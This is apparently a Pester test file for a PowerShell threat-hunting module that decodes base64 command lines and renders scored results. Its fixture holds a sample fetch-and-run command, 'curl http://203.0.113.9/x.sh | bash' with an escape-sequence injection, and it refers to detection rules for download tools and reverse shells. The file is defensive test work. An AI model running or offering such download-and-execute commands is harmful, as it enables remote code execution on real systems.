BeforeAll {
    # These tests pin the notebook's arithmetic; the default model has its own tests (Ranking.Tests.ps1).
    $PSDefaultParameterValues['Measure-B64Score:Model'] = 'Notebook'
    $PSDefaultParameterValues['Show-B64Timeline:Model'] = 'Notebook'
    Import-Module $env:B64HUNT_MODULE -Force
    $T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
    $ti = [B64Hunt.Model.TiResult]@{ Provider = 'OTX'; Ioc = '203.0.113.9'; IocType = 'ipv4'; Severity = 'High'; Status = 'Ok'; Details = 'pulses: 3' }
    $ioc = [B64Hunt.Model.Ioc]@{ Type = 'ipv4'; Value = '203.0.113[.]9'; Normalized = '203.0.113.9' }
    $tag = [B64Hunt.Model.GtfoBinsTag]@{ Name = 'curl'; Functions = [string[]]@('download', 'upload'); Contexts = [string[]]@('unprivileged'); Url = 'https://gtfobins.github.io/gtfobins/curl/' }
    $script:Event = [B64Hunt.Model.CommandEvent]@{
        DecodedCommand = "curl http://203.0.113.9/x.sh | bash`nrm -f /tmp/x `e[2J"; CommandLine = 'echo Y3VybA== | base64 -d | sh'
        Computer = 'web1'; TimeGenerated = $T0; EncodedText = 'Y3VybA=='
    }
    $Event.DecodeChain.Add('base64'); $Event.Iocs.Add($ioc); $Event.TiResults.Add($ti); $Event.GtfoBins.Add($tag)
    $Event.Categories.Add('Network connections/Downloading'); $Event.Techniques.Add('T1105'); $Event.GtfoFunctions.Add('download')
    $script:Alert = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1.contoso.com'; AlertName = 'Suspicious download'; Severity = 'High'; TimeGenerated = $T0.AddMinutes(5); Description = 'A file was downloaded'; Tactics = 'Execution' }
    $script:Score = $Event | Measure-B64Score -Alert $Alert
    $script:Ti = $ti; $script:Ioc = $ioc; $script:Tag = $tag

    function script:Render($InputObject, [string] $As) {
        $Error.Clear()
        $text = if ($As -eq 'Table') { $InputObject | Format-Table | Out-String -Width 200 } else { $InputObject | Format-List | Out-String -Width 200 }
        $Error | Should -BeNullOrEmpty
        $text | Should -Not -Match "`e" -Because 'attacker text must not reach the terminal as escape sequences'
        $text
    }
}

Describe 'B64Hunt.Format.ps1xml views' {
    It 'shows a CommandScore as a ranked row with a bar of its parts' {
        # 1 (rare) + 3 (TI high) + 3 (alert high) = 7: 1 cell F, 3 cells S, 3 cells A, 3 empty.
        $text = Render $Score 'Table'
        $text | Should -Match 'Rank\s+TotalScore F░ S▓ A█\s+Count\s+Hosts\s+DecodedCommand'
        $text | Should -Match '1\s+7[.,]00 ░▓▓▓███···\s+1\s+1 curl http://203\.0\.113\.9/x\.sh \| bash⏎rm -f /tmp/x �\[2J'
        # The Wide view adds the parts' numbers, the hosts and the categories.
        $wide = $Score | Format-Table -View Wide | Out-String -Width 250
        $wide | Should -Match 'Rank\s+TotalScore F░ S▓ A█\s+Freq\s+Sev\s+Alert\s+Count\s+Hosts\s+Hostnames\s+Categories\s+DecodedCommand'
        $wide | Should -Match '1\s+7[.,]00 ░▓▓▓███···\s+1[.,]00\s+3\s+3\s+1\s+1 web1\s+Network connections/Downloading\s+curl http'
    }
    It 'lists everything about a CommandScore' {
        $text = Render $Score 'List'
        foreach ($label in 'Rank', 'TotalScore', 'FreqScore', 'SevScore', 'AlertScore', 'CommandCount', 'TotalHosts', 'Hostnames', 'FirstSeen', 'LastSeen',
            'Categories', 'Techniques', 'GtfoBins', 'GtfoFunctions', 'Iocs', 'TiResults', 'Alerts', 'Events', 'DecodedCommand') {
            $text | Should -Match "(?m)^$label\s+:"
        }
        $text | Should -Match 'TiResults\s+: OTX:203\.0\.113\.9=High \(Ok\)'
        $text | Should -Match 'Alerts\s+: web1\.contoso\.com Suspicious download \[High\]'
        $text | Should -Match 'Iocs\s+: ipv4:203\.0\.113\.9'
    }
    It 'shows a CommandEvent as a row and a full list' {
        $table = Render $Event 'Table'
        $table | Should -Match '2024-05-01 10:00:00Z web1\s+1 curl http://203\.0\.113\.9/x\.sh \| bash⏎'
        $wide = $Event | Format-Table -View Wide | Out-String -Width 250
        $wide | Should -Match 'TimeGenerated\s+Computer\s+Account\s+Count\s+DecodeChain\s+Categories\s+DecodedCommand'
        $wide | Should -Match '2024-05-01 10:00:00Z web1\s+1 base64\s+Network connections/Downloading\s+curl http'
        $list = Render $Event 'List'
        foreach ($label in 'TimeGenerated', 'Computer', 'Account', 'Source', 'EventCount', 'Hostnames', 'DecodeChain', 'Categories', 'GtfoBins', 'Iocs', 'TiResults', 'CommandLine', 'EncodedText', 'DecodedCommand') {
            $list | Should -Match "(?m)^$label\s+:"
        }
    }
    It 'shows RelatedAlert, Ioc, TiResult and GtfoBinsTag as tables and lists' {
        Render $Alert 'Table' | Should -Match '2024-05-01 10:05:00Z web1\.contoso\.com\s+High\s+Suspicious download'
        Render $Alert 'List' | Should -Match 'Description\s+: A file was downloaded'
        Render $Ioc 'Table' | Should -Match 'ipv4\s+False\s+203\.0\.113\.9\s+203\.0\.113\[\.\]9'
        Render $Ioc 'List' | Should -Match 'Normalized\s+: 203\.0\.113\.9'
        Render $Ti 'Table' | Should -Match 'OTX\s+ipv4\s+High\s+Ok\s+False\s+203\.0\.113\.9\s+pulses: 3'
        Render $Ti 'List' | Should -Match 'Status\s+: Ok'
        Render $Tag 'Table' | Should -Match 'curl\s+download, upload\s+https://gtfobins'
        Render $Tag 'List' | Should -Match 'Contexts\s+: unprivileged'
    }
    It 'shows category rules as a table of id, category, techniques and description by default' {
        $rule = Get-B64CategoryRule -Id net-download-tools
        $text = $rule | Out-String -Width 200
        $text | Should -Match 'Id\s+Category\s+Techniques\s+Description'
        $text | Should -Match 'net-download-tools\s+Network connections/Downloading\s+T1105\s+Programs that fetch or send files'
        Render $rule 'List' | Should -Match 'Conditions\s+: commands: curl, wget'
    }
    It 'shows GTFOBins functions as a table of name, label, MITRE ids and description by default' {
        $text = Get-GtfoBinsFunction -Name reverse-shell | Out-String -Width 200
        $text | Should -Match 'Name\s+Label\s+Mitre\s+Description'
        $text | Should -Match 'reverse-shell\s+Reverse shell\s+T1059, T1071\s+This executable can send back a reverse system shell'
    }
    It 'shows threat-intelligence providers as a table of name, usability, key source, pacing and notes by default' {
        $feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
        $provider = Get-B64TiProvider -Name LocalFeed -LocalFeed $feed
        $text = $provider | Out-String -Width 200
        $text | Should -Match 'Name\s+Usable\s+KeySource\s+Pacing\s+Notes'
        $text | Should -Match 'LocalFeed\s+True\s+Parameter\s+offline'
        Render $provider 'List' | Should -Match 'SupportedTypes\s+:'
    }
    It 'has a default view for every B64Hunt type a cmdlet emits' {
        $types = (Get-Command -Module B64Hunt -CommandType Cmdlet).OutputType.Type | Where-Object { $_.Namespace -like 'B64Hunt*' } | Sort-Object FullName -Unique
        $types.Count | Should -BeGreaterOrEqual 7
        foreach ($type in $types) {
            $views = @(Get-FormatData -TypeName $type.FullName -PowerShellVersion $PSVersionTable.PSVersion)
            $views | Should -Not -BeNullOrEmpty -Because "$($type.FullName) needs a view in B64Hunt.Format.ps1xml"
            $views.FormatViewDefinition.Control | Where-Object { $_ -is [System.Management.Automation.TableControl] } |
                Should -Not -BeNullOrEmpty -Because "$($type.FullName) needs a table view"
        }
    }
}

AfterAll {
    $PSDefaultParameterValues.Remove('Measure-B64Score:Model')
    $PSDefaultParameterValues.Remove('Show-B64Timeline:Model')
}
